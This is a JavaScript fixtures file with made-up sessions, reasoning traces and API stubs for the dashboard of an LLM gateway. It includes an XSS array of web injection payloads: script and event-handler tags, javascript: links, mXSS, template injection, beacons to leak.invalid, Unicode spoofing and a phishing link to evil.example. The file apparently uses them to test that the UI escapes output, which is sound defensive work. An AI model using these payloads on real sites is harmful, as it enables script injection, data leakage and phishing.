// fixtures.mjs - a history made up for development, and for states that are hard to provoke. What the
// API answers in earnest is in its own tests. SPDX-License-Identifier: Apache-2.0

const NOW = Date.now() * 1000;
const SECOND = 1_000_000;

export const REASONING = `The symptom is latency, not load: the database sits at **35 % CPU**, so queries are not slow, they are *waiting*.

1. 71 of 80 connections are \`idle in transaction\`. They hold a slot and do nothing.
2. By Little's law, 9 usable slots at 40 ms a query give 225 queries a second; we need 600.

So the deploy at 14:02 opened transactions and did not close them. A missing \`commit\` on the error path fits.`;

const ANSWER = `The 14:02 deploy leaks transactions. **Roll it back now**, then fix the error path.

1. Roll back to the previous release.
2. Free the slots:

\`\`\`sql
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
WHERE state = 'idle in transaction' AND state_change < now() - interval '1 minute';
\`\`\`

| Measure | Before | Now |
|---|---|---|
| Idle in transaction | 2 | 71 |
| p95 checkout | 180 ms | 4.2 s |

See [the runbook](https://example.com/runbooks/pool?from=dashboard) for the alert.`;

export const XSS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=\"window.pwned=2\">",
  "<svg/onload=window.pwned=3>",
  "[click](javascript:window.pwned=4)",
  "[click](JaVaScRiPt:window.pwned=5)",
  "[click](data:text/html,<script>window.pwned=6</script>)",
  "[click]( javascript:window.pwned=7 )",
  "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:null/x)",
  "![leak](https://leak.invalid/p.png?q=secret)",
  "![leak](javascript:window.pwned=8)",
  "<a href=\"javascript:window.pwned=9\">x</a>",
  "<iframe srcdoc=\"<script>parent.pwned=10</script>\"></iframe>",
  "<style>*{background:url(https://leak.invalid/css)}</style>",
  "<link rel=stylesheet href=https://leak.invalid/x.css>",
  "<meta http-equiv=refresh content='0;url=https://leak.invalid/'>",
  "<form action=https://leak.invalid><input name=a><button>go</button></form>",
  "<base href=https://leak.invalid/>",
  "`<script>window.pwned=11</script>`",
  "```html\n<script>window.pwned=12</script>\n```",
  "```\"><img src=x onerror=window.pwned=13>\ncode\n```",
  "**<b onmouseover=window.pwned=14>bold</b>**",
  "| <img src=x onerror=window.pwned=15> | b |\n|---|---|\n| <script>window.pwned=16</script> | d |",
  "&lt;script&gt;window.pwned=17&lt;/script&gt;",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=18>",
  "](javascript:window.pwned=19) [x](https://example.com/\" onclick=\"window.pwned=20)",
  "<https://example.com/><script>window.pwned=21</script>",
  "safe \u202egnp.exe\u202c and \u2066hidden\u2069 and zero\u200bwidth and \u0007bell \u001b[31mred\u001b[0m",
  "tags: \u{e0041}\u{e0042}\u{e0043} end",
  "[https://bank.example](https://evil.example/login)",
  "https://\u0430pple.example/ looks like another",
  "{{constructor.constructor('window.pwned=22')()}} ${window.pwned=23} <%= 1 %>",
  "<details open ontoggle=window.pwned=24>x</details><video><source onerror=window.pwned=25>",
];

let n = 0;
function call(over = {}, ms = 9000) {
  const started = over.started_at_us ?? NOW - 600 * SECOND + n * 10 * SECOND;
  const id = over.interaction_id ?? `call-${String(++n).padStart(4, "0")}`;
  return {
    event_id: id,
    type: "llm_interaction",
    timestamp_us: started,
    step_description: "model call",
    duration_ms: ms,
    details: {
      interaction_id: id, prompt: "Checkout is slow since the 14:02 deploy. Why, and what do we do?", response: ANSWER, model_name: "demo-thinker", provider: "demo",
      upstream_model: "thinker-1", dialect: "openai", status: 200, stop: "stop", error_code: null, error_message: null, stream: true, complete: true, temperature: 0.2,
      level: "medium", cap_tokens: 256, reasoning_state: "complete", reasoning_cut: "", reasoning_source: "field", reasoning_tokens: 190, reasoning_exact: true,
      reasoning_content: REASONING, reasoning_summary: null, has_reasoning: true, reasoning_started_us: started + 0.4 * SECOND, reasoning_ended_us: started + 6.4 * SECOND,
      first_byte_us: started + 0.4 * SECOND, started_at_us: started, ended_at_us: started + ms * 1000, input_tokens: 412, output_tokens: 391, cache_read_tokens: 0,
      cache_write_tokens: 0, cost_usd: 0.0042, tool_calls: null, tools: null, attempts: [], segments: [], decision: "[DIRECT] The deploy leaks transactions: roll back, then fix.", ...over,
    },
  };
}

function tool(over = {}, ms = 800) {
  const id = `tool-${String(++n).padStart(4, "0")}`;
  const at = over.at ?? NOW;
  return {
    event_id: id, type: "mcp_communication", timestamp_us: at, step_description: "", duration_ms: ms,
    details: { tool_name: "pg_stat_activity", server_name: "postgres-mcp", communication_type: "tool_call", parameters: { state: "idle in transaction", limit: 5 },
      result: { rows: [{ pid: 4711, state: "idle in transaction", since: "00:14:09" }, { pid: 4712, state: "idle in transaction", since: "00:13:50" }] }, success: true, error_message: null, ...over },
  };
}

const base = {
  alert_id: null, agent_type: "gateway", alert_type: "openai", status: "completed", error_message: null, llm_interaction_count: 1, mcp_communication_count: 0,
  model: "demo-thinker", key_name: "checkout-app", subject: null, input_tokens: 412, output_tokens: 391, reasoning_tokens: 190, cost_usd: 0.0042, has_reasoning: true,
};

function session(id, title, events, over = {}) {
  const from = events[0]?.timestamp_us ?? NOW;
  const to = Math.max(...events.map((e) => e.timestamp_us + (e.duration_ms ?? 0) * 1000));
  const calls = events.filter((e) => e.type === "llm_interaction");
  const sum = (f) => calls.reduce((a, e) => a + (e.details[f] || 0), 0);
  return {
    ...base, session_id: id, title, started_at_us: from, completed_at_us: to, duration_ms: Math.round((to - from) / 1000), llm_interaction_count: calls.length,
    mcp_communication_count: events.length - calls.length, tool_call_count: events.length - calls.length, input_tokens: sum("input_tokens"), output_tokens: sum("output_tokens"), reasoning_tokens: sum("reasoning_tokens"),
    cost_usd: sum("cost_usd"), alert_data: null, final_analysis: calls.at(-1)?.details.response ?? null, session_metadata: null, chronological_timeline: events,
    summary: { llm_interaction_count: calls.length, mcp_communication_count: events.length - calls.length, total_duration_ms: Math.round((to - from) / 1000), errors: 0,
      tokens: { input: sum("input_tokens"), output: sum("output_tokens"), reasoning: sum("reasoning_tokens") }, cost_usd: sum("cost_usd") },
    ...over,
  };
}

// One call for each way reasoning can be there or not.
const STATES = {
  shown: {},
  hidden: { reasoning_state: "hidden", reasoning_content: null, reasoning_tokens: 512, cap_tokens: 1024, level: "high" },
  redacted: { reasoning_state: "opaque", reasoning_content: null, reasoning_source: "opaque", cap_tokens: null },
  summary: { reasoning_state: "summary", reasoning_source: "summary", reasoning_content: null, reasoning_summary: "**Weighing the options.** The pool is the bottleneck, not the CPU." },
  cut: { reasoning_state: "cut", reasoning_cut: "budget", reasoning_tokens: 128, cap_tokens: 128, level: "low" },
  unclosed: { reasoning_state: "unclosed", response: null, complete: false, stop: null },
  none: { reasoning_state: "none", reasoning_content: null, has_reasoning: false, reasoning_tokens: 0, cap_tokens: null, level: "none", reasoning_started_us: null, reasoning_ended_us: null },
  broken: { reasoning_content: { not: "text" } },
};

function agentRun() {
  const t = NOW - 420 * SECOND;
  const more = (d) => ({ segments: [], ...d });
  return [
    call(more({ interaction_id: "run-1", started_at_us: t, response: null, tool_calls: [{ id: "c1", type: "function", function: { name: "pg_stat_activity", arguments: "{\"state\":\"idle in transaction\",\"limit\":5}" } }],
      tools: ["pg_stat_activity", "deploys", "rollback"], decision: "[TOOL_CALL] pg_stat_activity: 71 of 80 connections idle in transaction suggests a leak; look at who holds them", stop: "tool_calls", level: "high", cap_tokens: 512, reasoning_tokens: 311 }), 8200),
    tool({ at: t + 8.3 * SECOND }, 640),
    tool({ at: t + 8.3 * SECOND, tool_name: "deploys", server_name: "github-mcp", parameters: { service: "checkout", since: "14:00" }, result: "error: rate limit", success: false, error_message: "rate limit, retry after 2 s" }, 1900),
    call(more({ interaction_id: "run-2", started_at_us: t + 10.4 * SECOND, level: "high", cap_tokens: 512, reasoning_tokens: 402, prompt: JSON.stringify([{ role: "system", content: "You are an incident responder." }, { role: "user", content: "Checkout is slow since the 14:02 deploy." }, { role: "tool", content: "[{\"pid\":4711}]" }]),
      segments: [
        { n: 0, kind: "reasoning", text: "The rows agree: the same two statements, opened at 14:02.", tokens: 60, exact: false, started_us: t + 11 * SECOND, ended_us: t + 13 * SECOND, budget: 512, cut: false, state: "complete" },
        { n: 1, kind: "answer", text: "Checking the deploy.", tokens: 5, exact: false, started_us: t + 13 * SECOND, ended_us: t + 13.4 * SECOND, budget: null, cut: false, state: "complete" },
        { n: 2, kind: "reasoning", text: "The deploy list is not there, but **the time alone** is enough to roll back.", tokens: 342, exact: false, started_us: t + 14 * SECOND, ended_us: t + 17 * SECOND, budget: 512, cut: false, state: "complete" },
      ] }), 11200),
  ];
}

// 500 steps: a model call and what its tool found, again and again; one thought is 100 kB long.
export const LONG_STEPS = 500;
function longRun() {
  const t = NOW - 3600 * SECOND, events = [];
  const names = ["search_code", "read_file", "run_tests", "edit_file", "list_dir"];
  for (let i = 0; i < LONG_STEPS / 2; i++) {
    const at = t + i * 12 * SECOND, name = names[(i * 7) % names.length], bad = i % 60 === 41;
    const thought = i === 100 ? Array.from({ length: 420 }, (_, k) => `**Step ${k}.** The pool has ${k} slots; ${"a query waits, and what it waits for waits as well. ".repeat(4)}`).join("\n\n") : `Look at \`${name}\` next, for the ${i}th time: it may show who holds the lock.`;
    events.push(call({ interaction_id: `long-${i}`, started_at_us: at, prompt: `Part ${Math.floor(i / 50) + 1}: find out why checkout is slow`, response: i === 249 ? "It was the pool." : null, model_name: "r1-small",
      reasoning_content: thought, reasoning_tokens: 40 + (i % 200), cap_tokens: 256, reasoning_cut: i % 83 === 82 ? "budget" : "", reasoning_state: i % 83 === 82 ? "cut" : "complete", level: "medium",
      tool_calls: i === 249 ? null : [{ id: `t${i}`, name, arguments: JSON.stringify({ path: `src/pool_${i}.c`, line: i }) }], decision: `[${i === 249 ? "DIRECT" : `TOOL_CALL`}] ${i === 249 ? "" : `${name}: `}${thought.slice(0, 300)}`,
      reasoning_started_us: at + SECOND, reasoning_ended_us: at + 5 * SECOND }, 7000));
    if (i !== 249) events.push({ ...tool({ at: at + 7.5 * SECOND, tool_name: name, server_name: "code", parameters: { path: `src/pool_${i}.c` }, result: `line ${i}`, ...(bad && { success: false, error_message: "no such file" }), parent_id: `long-${i}` }, 3000), event_id: `long-tool-${i}` });
  }
  return events;
}

// A coding agent: two turns, tool results in the next request, a sub-agent.
const CODE_SYSTEM = "You are a coding agent.\nBe brief.";
export const NEW = {};
function codingAgent() {
  const t = NOW - 300 * SECOND;
  const ask1 = "Why does the date test fail on Sundays?\nLook at src/date.c.", ask2 = "Fix it.";
  const step = (i, over) => call({ interaction_id: `code-${i}`, started_at_us: t + i * 14 * SECOND, model_name: "claude-opus-5-5", provider: "anthropic", dialect: "anthropic", level: null, cap_tokens: null, response: null,
    input_tokens: 18000 + i * 900, cache_read_tokens: 17200 + i * 850, output_tokens: 210, cost_usd: 0.021, prompt: ask1, ...over }, 6000);
  const events = [
    step(0, { reasoning_content: "The test name says Sunday: read the file first.", tool_calls: [{ id: "a1", name: "Read", arguments: "{\"file_path\":\"/repo/src/date.c\"}" }, { id: "a2", name: "Task", arguments: JSON.stringify({ description: "find callers", prompt: "Find all callers of week_day()\nReport file and line." }) }], decision: "[TOOL_CALL] Read, Task: The test name says Sunday: read the file first." }),
    step(1, { reasoning_content: "tm_wday begins with Sunday as 0; the code subtracts one.", tool_calls: [{ id: "a3", name: "Bash", arguments: "{\"command\":\"make test TEST=date\"}" }], decision: "[TOOL_CALL] Bash: tm_wday begins with Sunday as 0; the code subtracts one." }),
    step(2, { response: "On Sundays `tm_wday` is 0 and the code subtracts one: it becomes **-1**.", reasoning_content: null, has_reasoning: false, reasoning_state: "none", decision: "[DIRECT] On Sundays tm_wday is 0" }),
    step(3, { prompt: ask2, reasoning_content: "Use modulo seven.", tool_calls: [{ id: "a4", name: "Edit", arguments: "{\"file_path\":\"/repo/src/date.c\",\"old_string\":\"wday - 1\",\"new_string\":\"(wday + 6) % 7\"}" }], decision: "[TOOL_CALL] Edit: Use modulo seven." }),
    step(4, { prompt: ask2, response: "Fixed: the test passes on every day.", decision: "[DIRECT] Fixed" }),
  ];
  const tools = [{ name: "Read" }, { name: "Bash" }, { name: "Edit" }, { name: "Task" }];
  const said = (i, messages, more = {}) => (NEW[`code-${i}`] = { interaction_id: `code-${i}`, previous_id: i ? `code-${i - 1}` : null, dialect: "anthropic", same_count: i * 2, dropped_count: 0, system: null, tools: null, messages, ...more });
  const result = (id, content, is_error) => ({ type: "tool_result", tool_use_id: id, content, ...(is_error && { is_error }) });
  said(0, [{ role: "user", content: ask1 }], { system: [{ type: "text", text: CODE_SYSTEM }], tools });
  said(1, [{ role: "assistant", content: [] }, { role: "user", content: [result("a1", "int week_day(struct tm *t) { return t->tm_wday - 1; }"), result("a2", "src/report.c:41 and src/mail.c:7")] }]);
  said(2, [{ role: "assistant", content: [] }, { role: "user", content: [result("a3", "date_test: FAILED on Sunday", true), { type: "text", text: "<system-reminder>The todo list is empty.</system-reminder>" }] }]);
  said(3, [{ role: "assistant", content: [] }, { role: "user", content: ask2 }], { system: [{ type: "text", text: `${CODE_SYSTEM}\nRun the tests before you say that it works.` }] });
  said(4, [{ role: "assistant", content: [] }, { role: "user", content: [result("a4", "The file was updated.")] }]);
  return events;
}

const WORDS = ["Why is checkout slow?", "Summarise the incident of Tuesday", "May a contractor read the payment logs?", "Change the address of order 4711", "Draft a reply to the customer", "Which alerts fired twice?", "Translate the runbook", "Explain this stack trace"];
const MODELS = ["demo-thinker", "demo-tags", "gpt-5", "claude-sonnet-5", "qwen3-32b"];

export function history(total = 240) {
  const fixed = [
    session("agent-run", "Checkout is slow since the 14:02 deploy. Database CPU is at 35 %, but 71 of 80 connections are idle in transaction.", agentRun(), { agent_type: "incident", alert_type: "latency", summary: undefined }),
    ...Object.entries(STATES).map(([name, over]) => session(`state-${name}`, `Reasoning: ${name}`, [call({ ...over, interaction_id: `call-${name}` })])),
    session("long-run", "Why is checkout slow? All of it, please.", longRun(), { agent_type: "gateway" }),
    session("coding-agent", "Why does the date test fail on Sundays?", codingAgent(), { alert_type: "anthropic", model: "claude-opus-5-5", tool_call_count: 4 }),
    session("sub-agent", "Find all callers of week_day()", [call({ interaction_id: "sub-1", started_at_us: NOW - 293 * SECOND, prompt: "Find all callers of week_day()\nReport file and line.", response: "src/report.c:41 and src/mail.c:7" })], { model: "claude-haiku-5" }),
    session("xss", XSS[1], XSS.map((text, i) => call({ interaction_id: `xss-${i}`, response: text, reasoning_content: text, prompt: text, decision: `[DIRECT] ${text}`, error_message: text, model_name: text, tool_calls: [{ name: text, arguments: text }] })), { key_name: XSS[0], model: XSS[1] }),
    session("failed", "A call that failed", [call({ interaction_id: "call-failed", response: null, reasoning_content: null, reasoning_state: "none", has_reasoning: false, reasoning_tokens: 0, status: 502, error_code: "upstream_error", error_message: "the provider answered 502 three times", attempts: [{ provider: "demo", status: 502, ms: 40 }, { provider: "demo", status: 502, ms: 55 }] })], { status: "failed", error_message: "the provider answered 502 three times" }),
  ];
  const made = (i) => ({
    ...base, session_id: `s-${String(i).padStart(6, "0")}`, title: WORDS[i % WORDS.length], model: MODELS[i % MODELS.length], status: i % 17 === 3 ? "failed" : i === 1 ? "in_progress" : "completed",
    started_at_us: NOW - (700 + i * 97) * SECOND, completed_at_us: NOW - (690 + i * 97) * SECOND, duration_ms: 900 + ((i * 7919) % 60000), llm_interaction_count: 1 + (i % 5), mcp_communication_count: i % 3, tool_call_count: i % 3,
    input_tokens: 200 + ((i * 31) % 9000), output_tokens: 100 + ((i * 17) % 3000), reasoning_tokens: i % 4 ? 50 + ((i * 13) % 900) : 0, cost_usd: ((i * 7) % 100) / 2000, has_reasoning: i % 4 !== 0,
  });
  return { fixed, total: fixed.length + total, at: (i) => (i < fixed.length ? fixed[i] : made(i - fixed.length)), find: (id) => fixed.find((s) => s.session_id === id) };
}

export function decisions() {
  const whys = [
    ["TOOL_CALL", ["pg_stat_activity"], "71 of 80 connections idle in transaction suggests a leak; look at who holds them"],
    ["DIRECT", [], "The policy allows 14 days and asks for 20: answer no, and say which part would be allowed"],
    ["TOOL_CALL", ["change_address"], "change_address(order='4711', street='Rosenweg 3', postcode='8010', city='Graz')"],
    ["TOOL_CALL", ["deploys", "rollback", "rollback"], "the deploy at 14:02 is the only change in the window, so roll it back and watch"],
    ["DIRECT", [], "The deploy leaks transactions: roll back, then fix."],
    ["DIRECT", [], "The 14:02 deploy leaks transactions: each request opens one and leaves it open forever", "none_given"],
  ];
  const started = { decision_id: 2000, interaction_id: "code-0", session_id: "coding-agent", timestamp_us: NOW - 294 * SECOND, kind: "TOOL_CALL", tools: ["Read", "Task"], model: "claude-opus-5-5", entry: "[TOOL_CALL] Read, Task: The test name says Sunday: read the file first." };
  return [started, ...Array.from({ length: 64 }, (_, i) => {
    const [kind, tools, why, reasoning_absent] = whys[i % whys.length];
    return { decision_id: 1000 - i, interaction_id: "run-1", session_id: "agent-run", timestamp_us: NOW - i * 137 * SECOND, kind, tools, model: MODELS[i % 2], reasoning_absent, entry: `[${kind}] ${tools.length ? `${tools.join(", ")}: ` : ""}${why.slice(0, reasoning_absent ? 80 : undefined)}` };
  })];
}

export const rest = {
  "/api/v1/runs": { runs: [{ run_id: "run-1", app: "agents", status: "waiting", session_id: "agent-run", pending: { run_id: "run-1", kind: "approval", seq: 3, tool: "deploys__roll_back", arguments: { service: "checkout" }, why: "The pool was shrunk by the 14:02 deploy." } }] },
  "/api/v1/agents": { agents: [{ name: "operator", description: "Looks after the checkout.", model: "demo-thinker", level: "medium", strategy: "native", tools: ["deploys", "metrics.query"], approve: ["deploys.roll_back"], handoff: ["writer"], output: null, limits: { steps: 20, tokens: 50000, usd: 0.5, time_ms: 120000 }, guard: { input: "writer", output: null } }, { name: "writer", description: "", model: "demo-thinker", level: "", strategy: "react", tools: [], approve: [], handoff: [], output: null, limits: { steps: 20, tokens: -1, usd: 0, time_ms: 0 }, guard: { input: null, output: null } }] },
  "/api/v1/workflows": { workflows: [{ name: "triage", stages: [{ agents: ["operator", "writer"], parallel: true, success: "any" }, { agents: ["writer"], parallel: false, success: "any" }] }] },
  "/api/v1/history/metrics": { active_sessions: 2, completed_sessions: 231, failed_sessions: 9, total_llm_interactions: 1284, total_mcp_communications: 411, sessions_last_24h: 240, average_duration_ms: 14200, error_rate: 0.0375 },
  "/api/v1/history/filter-options": { agent_types: ["gateway", "incident"], alert_types: ["openai", "anthropic", "latency"], status_options: ["pending", "in_progress", "completed", "failed"], time_ranges: [], models: MODELS, keys: ["checkout-app", "ops"], tools: ["change_address", "pg_stat_activity"] },
  "/api/v1/history/kept": { reasoning: "text", answers: true, requests: true, masked: true, where: "/var/lib/rationale/history.db", size_bytes: 48234496, journal: "/var/lib/rationale/history.db.spool", journal_bytes: 18432, retention: "" },
  "/api/v1/history/health": { service: "history", status: "healthy", timestamp_us: NOW, details: { message: "", stored: 1284, dropped: 0, errors: 0, queue_bytes: 0, journal_bytes: 18432, pending_records: 3, pending_seconds: 0, free_bytes: 81234567890 } },
  "/api/v1/reasoning": { rows: [
    { model: "demo-thinker", level: "low", calls: 320, with_reasoning: 318, reasoning_tokens: 33100, output_tokens: 81200, share: 0.41, cap_tokens: 128, saturation: [2, 4, 9, 14, 22, 31, 40, 52, 61, 83], cut: 71, starved: 0, thinking_ms_p50: 2100, thinking_ms_p95: 4400 },
    { model: "demo-thinker", level: "medium", calls: 611, with_reasoning: 600, reasoning_tokens: 104500, output_tokens: 213000, share: 0.49, cap_tokens: 256, saturation: [12, 30, 55, 81, 120, 133, 90, 51, 20, 8], cut: 5, starved: 1, thinking_ms_p50: 5900, thinking_ms_p95: 9800 },
    { model: "demo-thinker", level: "high", calls: 98, with_reasoning: 98, reasoning_tokens: 41000, output_tokens: 60100, share: 0.68, cap_tokens: 512, saturation: [0, 1, 3, 6, 12, 20, 24, 18, 10, 4], cut: 2, starved: 3, thinking_ms_p50: 12100, thinking_ms_p95: 21000 },
    { model: "gpt-5", level: "medium", calls: 255, with_reasoning: 210, reasoning_tokens: 38800, output_tokens: 99000, share: 0.39, cap_tokens: null, saturation: null, cut: 0, starved: 0, thinking_ms_p50: 3100, thinking_ms_p95: 8100 },
  ] },
  "/api/v1/usage": { groups: [
    { key: "demo-thinker", calls: 1029, failed: 4, input_tokens: 811000, output_tokens: 354300, reasoning_tokens: 178600, cache_read_tokens: 120400, cost_usd: 4.81, starved: 4, cut: 78 },
    { key: "gpt-5", calls: 255, failed: 5, input_tokens: 201000, output_tokens: 99000, reasoning_tokens: 38800, cache_read_tokens: 0, cost_usd: 2.2, starved: 0, cut: 0 },
  ] },
  "/api/v1/providers": { providers: [
    { name: "demo", kind: "replay", base_url: null, models: [{ alias: "demo-thinker", upstream: "thinker-1", prices: null }, { alias: "demo-tags", upstream: "tags-1", prices: null }], enable_reasoning: true, format: "think", fallback: [], breaker: "closed" },
    { name: "openai", kind: "openai", base_url: "https://api.openai.example/v1", models: [{ alias: "gpt-5", upstream: "gpt-5", prices: { input: 1.25, output: 10, cache_read: 0.125 } }], enable_reasoning: true, format: null, fallback: ["anthropic"], breaker: "open" },
  ] },
  "/api/v1/levels": { levels: [
    { name: "none", max_reasoning_tokens: 0, max_tokens: 400, temperature: 0.2 },
    { name: "low", max_reasoning_tokens: 128, max_tokens: 528, temperature: 0.2 },
    { name: "medium", max_reasoning_tokens: 256, max_tokens: 656, temperature: 0.3 },
    { name: "high", max_reasoning_tokens: 512, max_tokens: 912, temperature: 0.4 },
  ] },
  "/api/v1/keys": { keys: [
    { name: "checkout-app", hint: "rk-…9f3a", models: ["demo-thinker"], levels: ["low", "medium"], rpm: 600, tpm: 200000, spend_usd: 50, spent: 46.2, reasoning: "hide", role: null },
    { name: "ops", hint: "rk-…11c0", models: [], levels: [], rpm: null, tpm: null, spend_usd: null, spent: 1.2, reasoning: "show", role: "operator" },
  ] },
  "/api/v1/system": { applications: ["agents"], version: "0.1.0", uptime_seconds: 91234, connections: 12, loops: 2, store: { enabled: true, ok: true, tables_ok: true, why: "", stored: 1284, dropped: 0, errors: 0, queue_bytes: 0, journal_bytes: 18432, journal_max_bytes: 1073741824, pending_records: 3, pending_seconds: 0, free_bytes: 81234567890, commits: 402, commit_ms: 1.4, durability: "durable", window_ms: 0 },
    config: [
      { path: "listen", value: "127.0.0.1:8484", origin: "flag" }, { path: "store", value: "sqlite:history.db", origin: "file" }, { path: "durability", value: "durable", origin: "default" },
      { path: "providers.openai.api_key", value: "****", origin: "env" }, { path: "reasoning.keep", value: "counts", origin: "default" }, { path: "log.level", value: "info", origin: "default" },
    ] },
  "/api/v1/audit": { head: { seq: 3, hash: "5a1e0c7d2b9f4e6633d1c0aa94be11f27c58d3e9", time_us: NOW }, entries: [{ seq: 3, action: "erase", subject: "s-000120", timestamp_us: NOW - 3600 * SECOND }] },
  "/page/questions.json": [
    { id: "incident", label: "An incident", model: "demo-thinker", prompt: "Checkout is slow since the 14:02 deploy. Why, and what do we do?" },
    { id: "order", label: "An order, with a tool", model: "demo-thinker", prompt: "Order 4711 has not left yet. Please send it to Rosenweg 3, 8010 Graz instead." },
  ],
  "/v1/models": { data: [{ id: "demo-thinker" }, { id: "demo-tags" }] },
};

// Calls over time: a day's wave for each model.
export function overview(q) {
  const end = Number(q.get("end_date_us") ?? NOW), start = Number(q.get("start_date_us") ?? end - 24 * 3600 * SECOND);
  const range = (end - start) / SECOND;
  const bucket_s = range > 10 * 86400 ? 86400 : range > 4 * 86400 ? 3 * 3600 : range > 8 * 3600 ? 3600 : 300;
  const first = Math.floor(start / SECOND / bucket_s) * bucket_s, buckets = Math.ceil((end / SECOND - first) / bucket_s);
  const series = (weight) => {
    const calls = Array.from({ length: buckets }, (_, i) => Math.round(weight * (2 + Math.sin(((first + i * bucket_s) / 86400) * 2 * Math.PI)) * 20));
    const of = (f) => calls.map((n, i) => f(n, i));
    return { calls, failed: of((n) => Math.floor(n / 25)), input_tokens: of((n) => n * 800), output_tokens: of((n) => n * 300), reasoning_tokens: of((n) => n * 120), starved: of((n) => Math.floor(n / 60)), cut: of((n) => Math.floor(n / 30)),
      cost_usd: of((n) => n * 0.004), p50_ms: of((n, i) => (n ? 2600 + (i % 3) * 600 : null)), p95_ms: of((n, i) => (n ? 16400 + (i % 4) * 3000 : null)) };
  };
  const sums = (s) => ({ ...Object.fromEntries(Object.entries(s).map(([k, v]) => [k, v.reduce((a, b) => a + (b ?? 0), 0)])), p50_ms: 3200, p95_ms: 18000, series: s });
  const keys = { model: MODELS, key: ["checkout-app", "ops", ""], application: ["gateway", "incidents", "policy"] }[q.get("by")] ?? [];
  const groups = keys.map((key, i) => ({ key, members: 1, ...sums(series(1 / (i + 1))) }));
  return { start_us: first * SECOND, end_us: (first + buckets * bucket_s) * SECOND, bucket_s, buckets, total: sums(series(2)), groups };
}

export function callList(q) {
  const end = Math.min(NOW, Number(q.get("end_date_us") ?? NOW));
  const calls = Array.from({ length: 12 }, (_, i) => ({ interaction_id: i === 0 ? "run-1" : i === 1 ? "run-2" : `call-${1000 + i}`, session_id: "agent-run", title: WORDS[i % WORDS.length], model: MODELS[i % MODELS.length], provider: "demo", key_name: "checkout-app", application: i % 4 ? "gateway" : "incidents",
    started_at_us: end - i * 50 * SECOND, duration_ms: 900 + i * 700, status: i % 5 === 3 ? 502 : 200, error_code: i % 5 === 3 ? "upstream_error" : null, complete: true, level: "medium", input_tokens: 400 + i, output_tokens: 300 + i, reasoning_tokens: 100 + i, has_reasoning: true, cost_usd: 0.004, cut: i % 7 === 2, starved: i % 11 === 5 }));
  return { calls: q.get("outcome") === "failed" ? calls.filter((c) => c.error_code) : calls, searched_back_to_us: null, next_cursor: null };
}
